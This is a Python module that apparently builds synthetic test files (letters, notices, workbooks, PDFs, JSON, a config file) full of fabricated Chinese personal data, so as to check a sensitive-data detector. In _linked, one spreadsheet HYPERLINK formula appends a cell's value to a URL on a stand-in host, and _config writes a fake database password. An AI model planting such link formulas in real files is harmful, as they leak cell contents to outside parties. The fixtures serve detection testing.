"""Files that no grid of cells describes: maps, letters, pages, workbooks with something beside their cells."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path
from random import Random
from typing import TYPE_CHECKING

import docx
import xlsxwriter

from . import bodies, drafts, files, words
from . import makers as m
from .bodies import Person
from .drafts import Draft, Row, kinds
from .files import LINES, Sheet

if TYPE_CHECKING:
    from .corpus import Column, Table

VISIBLE = kinds("resident_id mobile bank_card email plate person_name landline passport")
"""What a line of text shows by itself; the rest needs the column's header."""


def by_page(sheet: Sheet, columns: Sequence[Column]) -> list[Column]:
    """The truth about a PDF's pages from the table printed there; the header stands on the first page only."""
    from .corpus import Column

    found = []
    for page in range(-(-len(sheet.rows) // LINES)):
        lines = range(page * LINES, (page + 1) * LINES)
        here = {kind for column in columns for kind, rows in column.values.items() if any(row in lines for row in rows)}
        must = frozenset(here & VISIBLE - (set() if page == 0 else {"person_name"}))
        every = frozenset().union(*(column.must | column.may for column in columns))
        raw = {kind: values for column in columns for kind, values in column.raw.items() if kind in must}
        found.append(Column("", must, every - must, {}, raw, f"page {page + 1}"))
    return found


def geojson(path: Path, draft: Draft, form: str, rng: Random) -> Table:
    """Points. Where a person's home is, its place is a person's; a toilet's is not."""
    from .corpus import Column, Table

    rows = [Row(rng, number, Person(rng)) for number in range(1, draft.rows + 1)]
    made = [[drafts.cell(spec.make(row)) for spec in draft.specs] for row in rows]
    at = [(float(m.home_place("lng")(row)[0]), float(m.home_place("lat")(row)[0])) for row in rows]
    features = [
        {
            "type": "Feature",
            "properties": {spec.head: cell.text for spec, cell in zip(draft.specs, cells, strict=True)},
            "geometry": {"type": "Point", "coordinates": place},
        }
        for cells, place in zip(made, at, strict=True)
    ]
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False), "utf-8")
    columns = []
    for number, spec in enumerate(draft.specs):
        values = {
            kind: [
                (row, value) for row, cells in enumerate(made) for held, value in cells[number].holds if held == kind
            ]
            for kind in kinds(spec.must)
        }
        columns.append(
            Column(
                spec.head,
                kinds(spec.must),
                kinds(spec.may),
                {kind: frozenset(row for row, _ in found) for kind, found in values.items()},
                {kind: frozenset(value for _, value in found) for kind, found in values.items()},
            )
        )
    home = kinds("coordinates") if form == "geojson_home" else frozenset()
    for axis, name in enumerate(("geometry.lng", "geometry.lat")):
        columns.append(
            Column(name, home, raw={"coordinates": frozenset(str(place[axis]) for place in at)} if home else {})
        )
    return Table(path, columns, frozenset(("geojson",)))


def make(folder: Path, rng: Random) -> list[Table]:
    return [
        _letter(folder, rng),
        _notice(folder, rng),
        _minutes(folder, rng),
        _commented(folder, rng),
        _lost_digits(folder, rng),
        _nested(folder, rng),
        _linked(folder, rng),
        _leaflet(folder, rng),
        _roll(folder, rng),
        _bare_table(folder, rng),
        _config(folder, rng),
    ]


def _text(path: Path, must: str, raw: dict[str, set[str]], dirt: str, may: str = "", sheet: str = "") -> Table:
    from .corpus import Column, Table

    held = {kind: frozenset(values) for kind, values in raw.items()}
    return Table(path, [Column("", kinds(must), kinds(may), {}, held, sheet)], kinds(dirt))


def _letter(folder: Path, rng: Random) -> Table:
    one, other = Person(rng), Person(rng)
    path = folder / "201_关于反映供热问题的来信.txt"
    path.write_bytes(
        (
            f"关于供热问题的反映\n\n    本人{one.name}，身份证号{one.id}，"
            f"家住{one.district}{rng.choice(words.ROADS)}12号3单元502室，自去年十一月以来室内温度不足16度。\n"
            f"多次联系物业经理{other.name}同志未果。\n\n联系人：{one.name}    联系电话：{one.mobile}\n2026年1月15日\n"
        ).encode("gb18030")
    )
    raw = {"person_name": {one.name}, "resident_id": {one.id}, "mobile": {one.mobile}}
    return _text(path, "person_name resident_id mobile home_address", raw, "gb18030 free_text")


def _notice(folder: Path, rng: Random) -> Table:
    path, person = folder / "202_关于开展体检的通知.docx", Person(rng)
    paper = docx.Document()
    paper.core_properties.author = ""
    mail = bodies.email(rng)
    for line in (
        "关于开展年度体检工作的通知",
        "各科室：",
        "现将有关事项通知如下，体检项目包括血压、血糖、心电图。",
        f"请于3月底前将名单报送至邮箱{mail}。",
        f"联系人：{person.name}，办公电话0412-{bodies.local_number(rng)}，手机{person.mobile}。",
    ):
        paper.add_paragraph(line)
    paper.save(str(path))
    raw = {"person_name": {person.name}, "mobile": {person.mobile}, "email": {mail}}
    return _text(path, "person_name mobile landline email", raw, "free_text")


def _minutes(folder: Path, rng: Random) -> Table:
    """Nobody's data: slogans, standards, hotlines, document numbers."""
    path = folder / "203_保密宣传月方案.txt"
    path.write_text(
        "\n".join(
            (
                "保密宣传教育月活动方案",
                "一、加强商业秘密保护，严守国家秘密，人人有责。",
                f"二、依据{m.document(Row(rng, 1, Person(rng)))}和GB/T 35273-2020执行。",
                "三、密码应当符合复杂度要求，每90天更换一次，不得使用弱口令。",
                "四、举报电话12345、12339，网址http://www.example.gov.cn。",
                "五、王家村、于洪区、高新区同步开展，白术、黄芪等药材展销另行安排。",
                f"六、经费{rng.randrange(10, 99)},000.00元，合同号ASHT-2026-{bodies.digits(rng, 11)}。",
                f"七、订单号{m.order_number(Row(rng, 1, Person(rng)))}。",
            )
        ),
        "utf-8",
    )
    return _text(path, "", {}, "free_text")


def _commented(folder: Path, rng: Random) -> Table:
    """The cells are clean, a comment isn't."""
    from .corpus import Column, Table

    path, person = folder / "204_公共设施维修汇总.xlsx", Person(rng)
    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet("汇总")
        page.write_row(0, 0, ("设施名称", "数量", "单价"))
        for row in range(1, 40):
            page.write_row(row, 0, (rng.choice(("路灯", "座椅", "井盖")), rng.randrange(1, 90), rng.randrange(20, 900)))
        page.write_comment(3, 0, f"报修人：{person.name}，电话{person.mobile}")
    raw = {"person_name": frozenset((person.name,)), "mobile": frozenset((person.mobile,))}
    return Table(path, [Column("", kinds("person_name mobile"), frozenset(), {}, raw, "comments")], kinds("comment"))


def _lost_digits(folder: Path, rng: Random) -> Table:
    """IDs that a workbook keeps as numbers end in zeros: fifteen digits are left of each, which still tell a person's
    birth and county, and no number that anybody bears. Either verdict can be argued."""
    from .corpus import Column, Table

    path, people = folder / "205_培训学员名单.xlsx", [Person(rng) for _ in range(60)]
    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet("学员")
        page.write_row(0, 0, ("姓名", "身份证号", "培训专业", "成绩"))
        for row, person in enumerate(people, 1):
            page.write_string(row, 0, person.name)
            page.write_number(row, 1, float(person.id[:17].ljust(18, "0")))
            page.write_row(row, 2, (rng.choice(("电工", "焊工")), rng.randrange(50, 100)))
    names = frozenset(person.name for person in people)
    held = {"person_name": frozenset(range(1, 61))}
    return Table(
        path,
        [
            Column("姓名", kinds("person_name"), frozenset(), held, {"person_name": names}, "学员", "", 0),
            Column("身份证号", frozenset(), kinds("resident_id"), sheet="学员", number=1),
            Column("培训专业", frozenset(), sheet="学员", number=2),
            Column("成绩", frozenset(), sheet="学员", number=3),
        ],
        kinds("id_as_float"),
    )


def _nested(folder: Path, rng: Random) -> Table:
    from .corpus import Column, Table

    path, people = folder / "206_接口返回示例.json", [Person(rng) for _ in range(80)]
    rows = [
        {
            "no": number,
            "baseInfo": {"xm": one.name, "sfzh": one.id},
            "contact": {"phone": [one.mobile, one.parent.mobile], "addr": one.address},
            "flag": True,
            "score": None,
        }
        for number, one in enumerate(people)
    ]
    path.write_text(json.dumps({"status": 0, "result": {"list": rows}}, ensure_ascii=False), "utf-8")
    every = frozenset(range(len(people)))

    def column(where: str, kind: str, *values: str) -> Column:
        return Column(where, kinds(kind), frozenset(), {kind: every}, {kind: frozenset(values)})

    return Table(
        path,
        [
            column("baseInfo.xm", "person_name", *(one.name for one in people)),
            column("baseInfo.sfzh", "resident_id", *(one.id for one in people)),
            column("contact.phone", "mobile", *(one.mobile for one in people)),
            column("contact.addr", "home_address", *(one.address for one in people)),
            Column("no", frozenset()),
            Column("flag", frozenset()),
            Column("score", frozenset()),
        ],
        kinds("nested"),
    )


def _linked(folder: Path, rng: Random) -> Table:
    path = folder / "207_附件索引.xlsx"
    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet("索引")
        page.write_row(0, 0, ("序号", "附件名称", "地址"))
        for row in range(1, 20):
            page.write(row, 0, row)
            page.write_string(row, 1, rng.choice(("申请表", "承诺书")))
            page.write_url(row, 2, f"http://www.example.gov.cn/a/{row}.html")
        page.write_url(4, 2, "file:///D:/work/private/list.xlsx")
        page.write_formula(21, 0, '=HYPERLINK("http://a.example/?x="&B2,"see")')
    return _text(path, "link formula", {}, "link")


def _page(path: Path, lines: Sequence[str]) -> None:
    files.pages(path, [Sheet("", [[drafts.Cell(line)] for line in lines], [""])], Random(0))


def _leaflet(folder: Path, rng: Random) -> Table:
    path = folder / "208_办事指南.pdf"
    _page(
        path,
        (
            "不动产登记办事指南",
            "一、申请材料：居民身份证、户口簿、护照",
            "二、办理地点：铁东区建国大道888号政务服务中心二楼",
            "三、咨询时间：周一至周五 8:30-17:00",
            "四、服务热线：12345",
            f"五、文件依据：鞍政办发〔2022〕{rng.randrange(1, 99)}号",
            "六、收费标准：住宅80元/件",
            "七、联系人须持授权委托书办理",
        ),
    )
    return _text(path, "", {}, "pdf", sheet="page 1")


def _roll(folder: Path, rng: Random) -> Table:
    path, people = folder / "209_拟录用人员公示.pdf", [Person(rng) for _ in range(20)]
    _page(
        path,
        (
            "2026年公开招聘拟录用人员公示",
            "序号  姓名  性别  身份证号  联系电话",
            *(
                f"{number}  {one.name}  {m.sex(Row(rng, 1, one))}  {one.id}  {one.mobile}"
                for number, one in enumerate(people, 1)
            ),
        ),
    )
    raw = {
        "person_name": {one.name for one in people},
        "resident_id": {one.id for one in people},
        "mobile": {one.mobile for one in people},
    }
    return _text(path, "person_name resident_id mobile", raw, "pdf", sheet="page 1")


def _bare_table(folder: Path, rng: Random) -> Table:
    """One column without a header, as somebody saves a list for a bulk message."""
    from .corpus import Column, Table

    path, people = folder / "210_群发.txt", [Person(rng) for _ in range(200)]
    path.write_text("\n".join(one.mobile for one in people) + "\n", "utf-8")
    rows = {"mobile": frozenset(range(200))}
    return Table(
        path,
        [
            Column(
                "#1", kinds("mobile"), frozenset(), rows, {"mobile": frozenset(one.mobile for one in people)}, number=0
            )
        ],
        kinds("headers_none"),
    )


def _config(folder: Path, rng: Random) -> Table:
    path, secret = folder / "211_部署说明.txt", f"Zw{bodies.digits(rng, 6)}#k"
    path.write_text(f"部署说明\n[db]\nhost=10.0.0.8\nuser=portal\npassword={secret}\n\n[cache]\nttl=300\n", "utf-8")
    return _text(path, "credential", {"credential": {secret}}, "free_text")
